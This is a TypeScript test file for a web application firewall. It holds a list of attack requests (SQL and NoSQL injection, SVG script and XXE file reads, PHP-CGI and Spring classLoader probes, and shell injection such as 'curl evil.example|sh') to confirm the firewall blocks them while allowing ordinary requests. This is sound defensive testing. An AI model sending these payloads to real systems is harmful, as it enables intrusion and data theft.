import { expect, test } from 'vitest'
import { type InspectedRequest, waf } from '../../../lib/waf/index.ts'
import { core } from '../../../rules/core/index.ts'

const guard = waf({ rules: core(), mode: 'block' })
const refused = async (over: Partial<InspectedRequest>): Promise<boolean> => {
  const headers = [{ name: 'Host', value: 'shop.example' }, ...(over.headers ?? [])]
  const { action } = await guard.inspect({ method: 'GET', target: '/', protocol: 'HTTP/1.1', ...over, headers })
  return action === 'refuse'
}
const query = (value: string) => ({ target: `/?p=${encodeURIComponent(value)}` })
const body = (type: string, text: string) => ({
  method: 'POST',
  headers: [{ name: 'Content-Type', value: type }],
  body: text,
})
const json = (value: unknown) => body('application/json', JSON.stringify(value))
const part = (head: string, content: string) =>
  body(
    'multipart/form-data; boundary=b0',
    `--b0\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n--b0--\r\n`,
  )
const union = "1' union select user,pass from users-- "

/** What a reviewer got past the rules, and what he found blocked, each by its place or its form. */
const attacks: readonly (readonly [what: string, request: Partial<InspectedRequest>])[] = [
  ['JSON declared a picture, behind blanks', body('image/png', `${' '.repeat(600)}${JSON.stringify({ a: union })}`)],
  ['a field with an empty file name', part('name="a"; filename=""', union)],
  [
    'JSON as a part with a file name',
    part('name="d"; filename="blob"\r\nContent-Type: application/json', JSON.stringify({ a: union })),
  ],
  [
    'a part in quoted-printable',
    part('name="a"\r\nContent-Transfer-Encoding: quoted-printable', '1=27 union=20select 1'),
  ],
  [
    'a drawing with a script',
    part('name="f"; filename="a.svg"', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ],
  [
    'a drawing with a handler',
    part('name="f"; filename="a.svg"', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ],
  [
    'a drawing that reads a file',
    part('name="f"; filename="a.svg"', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
  ],
  ['$ne below a password', json({ user: 'a', pass: { $ne: null } })],
  ['$gt below a password', json({ user: { $gt: '' }, pass: { $gt: '' } })],
  ['$regex below a password', json({ pass: { $regex: '^a' } })],
  ['$where', json({ $where: 'sleep(1)' })],
  ['$function', json({ a: { $expr: { $function: { body: 'x' } } } })],
  ['names with operators', { target: '/?user[$ne]=1&pass[$gt]=' }],
  [
    'the loader of all classes',
    { target: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
  ],
  ['options of PHP', { target: '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input' }],
  ['a field of the inside', { headers: [{ name: 'x-middleware-subrequest', value: 'middleware:middleware' }] }],
  ['a proxy for scripts', { headers: [{ name: 'Proxy', value: 'http://198.51.100.1' }] }],
  ...[
    "'; begin; delete from users; end;--",
    '1;prepare a from 0x73656c656374;execute a',
    '1 union table users',
    '1 union values row(1,2,3)',
    '1 union#\nselect 1',
    '1#ab\nand#cd\n1=1',
    `1' and '{"a":1}'::jsonb @> '{"a":1}'::jsonb--`,
    "' and data->>'a'='b",
    'a&&whoami',
    'a||curl evil.example|sh',
    '&&nslookup a.evil.example',
  ].map((value) => [value, query(value)] as const),
]

const ordinary: readonly (readonly [what: string, request: Partial<InspectedRequest>])[] = [
  [
    'Digest',
    {
      headers: [
        {
          name: 'Authorization',
          value:
            'Digest username="bob", realm="a", nonce="x", uri="/a?b=c", qop=auth, nc=00000001, cnonce="0a4f", response="d", opaque="e"',
        },
      ],
    },
  ],
  [
    'filters in names',
    { target: '/?filters[$or][0][title][$contains]=x&filters[price][$gte]=5&$limit=10&$sort[name]=1' },
  ],
  ['a filter of dates', { target: '/?created[$lt]=2026-11-24' }],
  ['a filter as JSON in a parameter', { target: `/?where=${encodeURIComponent('{"score":{"$gte":1000}}')}` }],
  ['a selector', json({ selector: { price: { $gte: 5 }, type: { $in: ['a', 'b'] } }, limit: 5 })],
  [
    'JSON as a part',
    part(
      'name="d"; filename="blob"\r\nContent-Type: application/json',
      JSON.stringify({ title: "O'Brien & sons", n: 1 }),
    ),
  ],
  ['no file chosen', part('name="f"; filename=""\r\nContent-Type: application/octet-stream', '')],
  [
    'a drawing',
    part(
      'name="f"; filename="a.svg"',
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    ),
  ],
  ['a picture', body('image/png', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR')],
  ...[
    '# A title\nand more of it',
    'rock&&roll',
    'a -> b -> c',
    'me@example.org, you <@you>',
    '-- \nBob',
    'the union table is laid',
    'ready; begin; go',
  ].map((value) => [value, query(value)] as const),
]

test('attacks of the review', async () => {
  for (const [what, request] of attacks) expect(await refused(request), what).toBe(true)
  expect(attacks.length).toBe(28)
})

test('ordinary requests of the review', async () => {
  for (const [what, request] of ordinary) expect(await refused(request), what).toBe(false)
  expect(ordinary.length).toBe(16)
})

test('a value behind more decodings than are made is refused, and the verdict says so', async () => {
  let value = "1' or '1'='1"
  for (let turn = 0; turn < 9; turn++) value = encodeURIComponent(value)
  const { action, bounds } = await guard.inspect({
    method: 'GET',
    target: `/?p=${value}`,
    protocol: 'HTTP/1.1',
    headers: [{ name: 'Host', value: 'shop.example' }],
  })
  expect([action, bounds]).toEqual(['refuse', ['decoding']])
})
